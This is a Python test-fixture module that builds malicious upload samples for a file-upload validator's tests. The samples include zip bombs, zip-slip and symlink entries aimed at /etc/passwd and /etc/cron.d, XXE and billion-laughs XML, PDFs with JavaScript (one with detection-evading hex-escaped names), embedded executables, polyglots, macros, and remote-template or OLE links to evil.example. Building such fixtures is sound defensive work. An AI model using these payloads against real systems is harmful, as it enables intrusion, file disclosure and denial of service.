"""Build hostile (and a few harmless) files in memory for the upload tests.

Every builder returns bytes and needs nothing outside this checkout, so the tests run from a
fresh clone. The large ones are built in well under a second: the zip bomb repeats one
flushed deflate block instead of compressing 200 MB, and the 100,000-entry archive is
written record by record instead of through `zipfile`.
"""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

SAMPLES = Path(__file__).resolve().parent / "samples"

MB = 1024 * 1024

DOCX_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" '
    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)
DOCX_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/>'
    b"</Relationships>"
)
DOCX_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Sehr geehrte Redaktion,</w:t></w:r></w:p></w:body>"
    b"</w:document>"
)
ODT_MIMETYPE = b"application/vnd.oasis.opendocument.text"
ODT_CONTENT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    b' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3">'
    b"<office:body><office:text><text:p>Probe</text:p></office:text></office:body>"
    b"</office:document-content>"
)
ODT_MANIFEST = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
    b' manifest:version="1.3">'
    b'<manifest:file-entry manifest:full-path="/" manifest:media-type="'
    + ODT_MIMETYPE
    + b'"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    b"</manifest:manifest>"
)


# -- harmless building blocks ------------------------------------------------------------


def _docx_parts(content_types: bytes = DOCX_CONTENT_TYPES) -> list[tuple[str, bytes]]:
    # [Content_Types].xml first and word/ soon after: that is the order Word writes and the
    # order libmagic looks for when it recognises a DOCX.
    return [
        ("[Content_Types].xml", content_types),
        ("_rels/.rels", DOCX_RELS),
        ("word/document.xml", DOCX_DOCUMENT),
    ]


def _zip(parts: list[tuple[str | zipfile.ZipInfo, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts:
            archive.writestr(name, data)
    return buffer.getvalue()


def minimal_docx() -> bytes:
    """Return the smallest DOCX Word opens: content types, relationships, one paragraph."""
    return _zip(_docx_parts())


def minimal_odt() -> bytes:
    """Return a minimal ODT: a stored `mimetype` first, then content and manifest."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        # ODF requires `mimetype` first and uncompressed, so its bytes sit at offset 38.
        archive.writestr("mimetype", ODT_MIMETYPE, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", ODT_CONTENT)
        archive.writestr("META-INF/manifest.xml", ODT_MANIFEST)
    return buffer.getvalue()


def blank_pdf() -> bytes:
    """Return a valid one-page PDF without any active content."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# -- disguised executables and markup ---------------------------------------------------------


def exe_named_pdf() -> bytes:
    """Return a DOS/PE executable header (to be uploaded under a .pdf name)."""
    # "MZ" header with e_lfanew pointing at a "PE\0\0" signature, as a real .exe has.
    header = bytearray(b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80))
    header += bytes(0x80 - len(header))
    header += b"PE\x00\x00" + struct.pack("<H", 0x14C) + bytes(18)
    return bytes(header) + b"This program cannot be run in DOS mode.\r\n" + bytes(256)


def html_named_pdf() -> bytes:
    """Return an HTML page with a script (to be uploaded under a .pdf name)."""
    return (
        b"<!DOCTYPE html>\n<html><head><title>CV</title></head>"
        b"<body><script>fetch('/review/').then(r => r.text())</script></body></html>\n"
    )


def svg_named_pdf() -> bytes:
    """Return an SVG image with a script (to be uploaded under a .pdf name)."""
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.domain)</script></svg>\n"
    )


def pdf_html_polyglot() -> bytes:
    """Return a file that starts like a PDF but is an HTML page with a script."""
    return b"%PDF-1.4\n<html><script>alert(document.cookie)</script></html>\n%%EOF\n"


def empty() -> bytes:
    """Return zero bytes."""
    return b""


def truncated_pdf() -> bytes:
    """Return the first 300 bytes of the good sample PDF."""
    return (SAMPLES / "cv.pdf").read_bytes()[:300]


def pdf_with_javascript() -> bytes:
    """Return a valid one-page PDF that runs JavaScript when it is opened.

    The action is both the catalog's /OpenAction and an entry of the /Names /JavaScript
    tree, the two places document-level scripts live. (pypdf's `add_js` is gone in pypdf 7,
    so the objects are written by hand with pypdf's generic types.)
    """
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)

    def action() -> DictionaryObject:
        return DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Action"),
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('opened');"),
            }
        )

    root = writer.root_object
    root[NameObject("/OpenAction")] = action()
    root[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("open"), action()])}
            )
        }
    )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def password_pdf() -> bytes:
    """Return a one-page PDF that opens only with the password "secret" (RC4, no extras)."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def owner_password_pdf() -> bytes:
    """Return a one-page PDF with only an owner password (opens without one, RC4)."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# -- archives ------------------------------------------------------------------------------


@dataclass
class RawEntry:
    """One member of a hand-written zip: its bytes as stored, and what they claim to be."""

    name: str
    stored: bytes
    crc: int
    size: int
    method: int = zipfile.ZIP_STORED
    external_attr: int = 0


def raw_zip(entries: list[RawEntry]) -> bytes:
    """Write a zip archive record by record, fast and exactly as told (no zipfile checks)."""
    body = io.BytesIO()
    directory = io.BytesIO()
    for entry in entries:
        name = entry.name.encode("utf-8")
        offset = body.tell()
        # Local file header: version 20, UTF-8 flag (bit 11), no date, sizes known up front.
        body.write(
            struct.pack(
                "<4s5H3L2H",
                b"PK\x03\x04",
                20,
                0x800,
                entry.method,
                0,
                0x21,
                entry.crc,
                len(entry.stored),
                entry.size,
                len(name),
                0,
            )
        )
        body.write(name)
        body.write(entry.stored)
        # Central directory record: "made by" Unix (3) so external_attr carries a mode.
        directory.write(
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                (3 << 8) | 20,
                20,
                0x800,
                entry.method,
                0,
                0x21,
                entry.crc,
                len(entry.stored),
                entry.size,
                len(name),
                0,
                0,
                0,
                0,
                entry.external_attr,
                offset,
            )
        )
        directory.write(name)
    central = directory.getvalue()
    count = len(entries)
    if count > 0xFFFF:
        # More entries than the classic end record can count: add the Zip64 end record and
        # its locator, as zip tools do, and mark the classic fields as "see Zip64".
        zip64_offset = body.tell() + len(central)
        zip64_end = struct.pack(
            "<4sQ2H2L4Q",
            b"PK\x06\x06",
            44,
            (3 << 8) | 45,
            45,
            0,
            0,
            count,
            count,
            len(central),
            body.tell(),
        )
        locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, zip64_offset, 1)
        end = struct.pack(
            "<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(central), body.tell(), 0
        )
        return body.getvalue() + central + zip64_end + locator + end
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), body.tell(), 0)
    return body.getvalue() + central + end


def _deflated(name: str, data: bytes) -> RawEntry:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    stored = compressor.compress(data) + compressor.flush()
    return RawEntry(name, stored, zlib.crc32(data), len(data), zipfile.ZIP_DEFLATED)


def _docx_entries() -> list[RawEntry]:
    return [_deflated(name, data) for name, data in _docx_parts()]


def zeros_entry(name: str, size: int) -> RawEntry:
    """Return a deflated entry of *size* zero bytes (a multiple of 1 MB), built in ~0.1 s.

    Deflate restarts after a full flush, so every flushed megabyte of zeros compresses to
    the same bytes: compress one, repeat it.
    """
    assert size % MB == 0
    megabyte = bytes(MB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(megabyte) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(size // MB):
        crc = zlib.crc32(megabyte, crc)
    stored = block * (size // MB) + compressor.flush()
    return RawEntry(name, stored, crc, size, zipfile.ZIP_DEFLATED)


def zip_bomb_docx(size: int = 200 * MB) -> bytes:
    """Return a valid-looking DOCX with one more entry that inflates to *size* zero bytes."""
    return raw_zip([*_docx_entries(), zeros_entry("word/media/image1.png", size)])


def high_ratio_docx(size: int = 2 * MB) -> bytes:
    """Return a DOCX within the total-size limit whose one large entry compresses ~1000:1."""
    return raw_zip([*_docx_entries(), zeros_entry("word/media/image1.png", size)])


def many_entries_docx(count: int = 100_000) -> bytes:
    """Return a DOCX with *count* entries in all, still under 10 MB on disk.

    The names are five hex digits so that 100,000 local headers plus directory records fit
    in ~8.6 MB: the archive must be refused for its entry count, not for its file size.
    """
    entries = _docx_entries()
    entries += [RawEntry(f"{i:05x}", b"", 0, 0) for i in range(count - len(entries))]
    return raw_zip(entries)


def reordered_docx() -> bytes:
    """Return a valid DOCX whose first entry is _rels/.rels (libmagic calls it a plain zip)."""
    parts = _docx_parts()
    return _zip([parts[1], parts[0], parts[2]])


def odt_mimetype_not_first() -> bytes:
    """Return an ODT-like zip whose `mimetype` entry is not the first one."""
    return _zip([("content.xml", ODT_CONTENT), ("mimetype", ODT_MIMETYPE)])


def macro_docx() -> bytes:
    """Return a DOCX carrying a VBA project (word/vbaProject.bin)."""
    return _zip([*_docx_parts(), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(508))])


def macro_content_type_docx() -> bytes:
    """Return a DOCX whose main part is declared macro-enabled (a .docm renamed .docx)."""
    content_types = DOCX_CONTENT_TYPES.replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"vnd.ms-word.document.macroEnabled.main+xml",
    )
    return _zip(_docx_parts(content_types))


def odt_with_basic_macro() -> bytes:
    """Return an ODT with a StarBasic library (Basic/Standard/Module1.xml)."""
    buffer = io.BytesIO(minimal_odt())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("Basic/Standard/Module1.xml", b"<module>Sub Main\nEnd Sub</module>")
    return buffer.getvalue()


def plain_zip() -> bytes:
    """Return an ordinary zip of two text files (to be uploaded under a .docx name)."""
    return _zip([("notes.txt", b"hello\n"), ("more/notes.txt", b"again\n")])


def traversal_docx() -> bytes:
    """Return a DOCX with an entry named ../evil (zip slip)."""
    return raw_zip([*_docx_entries(), _deflated("../evil", b"#!/bin/sh\n")])


def absolute_path_docx() -> bytes:
    """Return a DOCX with an entry named /etc/cron.d/evil."""
    return raw_zip([*_docx_entries(), _deflated("/etc/cron.d/evil", b"* * * * * root id\n")])


def symlink_docx() -> bytes:
    """Return a DOCX with an entry that is a symlink to /etc/passwd."""
    target = b"/etc/passwd"
    link = RawEntry(
        "word/media/image1.png",
        target,
        zlib.crc32(target),
        len(target),
        external_attr=(stat.S_IFLNK | 0o777) << 16,
    )
    return raw_zip([*_docx_entries(), link])


def duplicate_entry_docx() -> bytes:
    """Return a DOCX with two different word/document.xml entries."""
    return raw_zip([*_docx_entries(), _deflated("word/document.xml", b"<other/>")])


def xxe_docx() -> bytes:
    """Return a DOCX whose [Content_Types].xml declares an external entity (XXE)."""
    content_types = DOCX_CONTENT_TYPES.replace(
        b"<Types ",
        b'<!DOCTYPE Types [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<Types ',
    ).replace(b"</Types>", b'<Default Extension="x" ContentType="&xxe;"/></Types>')
    return _zip(_docx_parts(content_types))


def billion_laughs_docx() -> bytes:
    """Return a DOCX whose [Content_Types].xml holds nested entities (billion laughs)."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    doctype = ("<!DOCTYPE Types [" + "".join(entities) + "]>\n").encode()
    content_types = DOCX_CONTENT_TYPES.replace(b"<Types ", doctype + b"<Types ").replace(
        b"</Types>", b'<Default Extension="x" ContentType="&lol9;"/></Types>'
    )
    return _zip(_docx_parts(content_types))


# -- text ------------------------------------------------------------------------------------


def utf32_garbage_txt() -> bytes:
    """Return a UTF-32 byte-order mark followed by binary garbage (to be named .txt)."""
    return b"\xff\xfe\x00\x00" + bytes(range(256)) * 4


def utf32_txt() -> bytes:
    """Return well-formed UTF-32 text with a byte-order mark (libmagic calls it text)."""
    return "Hallo aus Batumi\n".encode("utf-32")


def utf16_txt() -> bytes:
    """Return German prose encoded as UTF-16 with a byte-order mark, as Notepad saves it."""
    return "Grüße aus Tiflis\r\n\tZweite Zeile\r\n".encode("utf-16")


def text_with_control_characters() -> bytes:
    """Return UTF-8 text with an ESC sequence in it (a terminal escape, not prose)."""
    return b"Lebenslauf\n\x1b[2J\x1b]0;pwned\x07\n"


def rtf_with_object() -> bytes:
    """Return an RTF document with an embedded OLE object (\\object … \\objdata)."""
    return (
        b"{\\rtf1\\ansi Lebenslauf\\par"
        b"{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}}"
    )


# -- active content hidden beyond the document level ----------------------------------------


def _pdf_bytes(writer) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _javascript_action(script: str = "app.alert('hello');"):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(script),
        }
    )


def pdf_with_page_action() -> bytes:
    """Return a one-page PDF whose page runs JavaScript when it opens (page-level /AA /O)."""
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject

    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _javascript_action()})
    return _pdf_bytes(writer)


def pdf_with_link_javascript() -> bytes:
    """Return a one-page PDF with a link annotation whose action is JavaScript."""
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 300, 80)]),
            NameObject("/A"): _javascript_action("this.submitForm('https://evil.example/');"),
        }
    )
    writer.add_annotation(0, link)
    return _pdf_bytes(writer)


def pdf_with_attachment(filename: str, data: bytes = b"attached\n") -> bytes:
    """Return a one-page PDF carrying *filename* in its /Names /EmbeddedFiles tree."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment(filename, data)
    return _pdf_bytes(writer)


def pdf_with_embedded_exe() -> bytes:
    """Return a one-page PDF carrying a Windows program (`invoice.exe`) as an attachment."""
    return pdf_with_attachment("invoice.exe", exe_named_pdf())


def pdf_with_file_attachment_annotation(filename: str = "payload.exe") -> bytes:
    """Return a one-page PDF whose /FileAttachment annotation (a paper clip) holds a file."""
    from pypdf import PdfWriter
    from pypdf.generic import (
        ArrayObject,
        DecodedStreamObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        TextStringObject,
    )

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    stream = DecodedStreamObject()
    stream.set_data(exe_named_pdf())
    stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
    filespec = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject(filename),
            NameObject("/UF"): TextStringObject(filename),
            NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(stream)}),
        }
    )
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 70, 70)]),
            NameObject("/FS"): filespec,
        }
    )
    writer.add_annotation(0, annotation)
    return _pdf_bytes(writer)


def vba_zip() -> bytes:
    """Return a zip holding a VBA project, as appended to PDFs to smuggle macros."""
    return _zip([("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(508))])


def pdf_followed_by_zip() -> bytes:
    """Return a valid PDF with a zip (holding vbaProject.bin) appended after its %%EOF."""
    return blank_pdf() + vba_zip()


def pdf_with_zip_before_eof() -> bytes:
    """Return a PDF + zip polyglot that ends in %%EOF again, so nothing trails the marker.

    Zip readers find the archive's end record anywhere in the last 64 KB, so the file is a
    PDF to a viewer and an archive to a zip tool.
    """
    return blank_pdf() + vba_zip() + b"\n%%EOF\n"


def pdf_followed_by_exe() -> bytes:
    """Return a valid PDF with a Windows program appended after its %%EOF."""
    return blank_pdf() + exe_named_pdf()


def pdf_with_padding() -> bytes:
    """Return a valid PDF followed by line ends and NUL padding, as some writers leave."""
    return blank_pdf() + b"\r\n\x00\x00\x00\n"


_SETTINGS_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}" TargetMode="External"/>'
    "</Relationships>"
)


def docx_with_remote_template() -> bytes:
    """Return a DOCX whose settings attach a template fetched from a web server when opened."""
    settings = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
        b' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    rels = _SETTINGS_RELS.format(kind="attachedTemplate", target="https://evil.example/t.dotm")
    return _zip(
        [
            *_docx_parts(),
            ("word/settings.xml", settings),
            ("word/_rels/settings.xml.rels", rels.encode()),
        ]
    )


def docx_with_external_object() -> bytes:
    """Return a DOCX whose document links an OLE object on another server (as Follina did)."""
    rels = _SETTINGS_RELS.format(kind="oleObject", target="mhtml:https://evil.example/x.html!x")
    return _zip([*_docx_parts(), ("word/_rels/document.xml.rels", rels.encode())])


def docx_with_hyperlink() -> bytes:
    """Return a DOCX with an ordinary external hyperlink (followed only when clicked)."""
    rels = _SETTINGS_RELS.format(kind="hyperlink", target="https://example.org/portfolio")
    return _zip([*_docx_parts(), ("word/_rels/document.xml.rels", rels.encode())])


def _odt_with(parts: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", ODT_MIMETYPE, compress_type=zipfile.ZIP_STORED)
        for name, data in parts:
            archive.writestr(name, data)
        archive.writestr("META-INF/manifest.xml", ODT_MANIFEST)
    return buffer.getvalue()


def odt_with_event_listener() -> bytes:
    """Return an ODT whose content binds the document's load event to a script (no Basic)."""
    content = ODT_CONTENT.replace(
        b' office:version="1.3">',
        b' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
        b' xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3">'
        b"<office:scripts><office:event-listeners>"
        b'<script:event-listener script:language="ooo:script" script:event-name="dom:load"'
        b' xlink:href="vnd.sun.star.script:pythonSamples|TableSample.py$createTable'
        b'?language=Python&amp;location=share"/>'
        b"</office:event-listeners></office:scripts>",
    )
    return _odt_with([("content.xml", content)])


def odt_with_event_listener_in_styles() -> bytes:
    """Return an ODT whose styles.xml binds an event to a Basic macro under an unusual prefix."""
    styles = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        b' xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
        b' xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3">'
        b"<office:scripts><office:event-listeners>"
        b'<s:event-listener s:language="StarBasic" s:event-name="dom:mouseover"'
        b' s:macro-name="Standard.Module1.Main" s:library="application"/>'
        b"</office:event-listeners></office:scripts></office:document-styles>"
    )
    return _odt_with([("content.xml", ODT_CONTENT), ("styles.xml", styles)])


def odt_with_macro_link() -> bytes:
    """Return an ODT whose hyperlink runs a macro when clicked (a vnd.sun.star.script URL)."""
    content = ODT_CONTENT.replace(
        b' office:version="1.3">',
        b' xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3">',
    ).replace(
        b"<text:p>Probe</text:p>",
        b'<text:p><text:a xlink:type="simple" xlink:href="vnd.sun.star.script:Standard.'
        b'Module1.Main?language=Basic&amp;location=application">Probe</text:a></text:p>',
    )
    return _odt_with([("content.xml", content)])


def pdf_with_hex_escaped_link_javascript() -> bytes:
    """Return the link-JavaScript PDF with its names hex-escaped (/J#61vaScript, /J#53).

    Viewers decode the escapes, so a check that matched the raw bytes would miss them. The
    xref offsets are off by the added bytes; viewers (and pypdf) rebuild them.
    """
    data = pdf_with_link_javascript()
    assert data.count(b"/JavaScript") == 1
    assert data.count(b"/JS ") == 1
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


def pdf_with_field_page_open_action() -> bytes:
    """Return a one-page PDF whose form field runs JavaScript as its page opens (/AA /PO)."""
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    widget = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 300, 80)]),
            NameObject("/AA"): DictionaryObject({NameObject("/PO"): _javascript_action()}),
        }
    )
    writer.add_annotation(0, widget)
    return _pdf_bytes(writer)
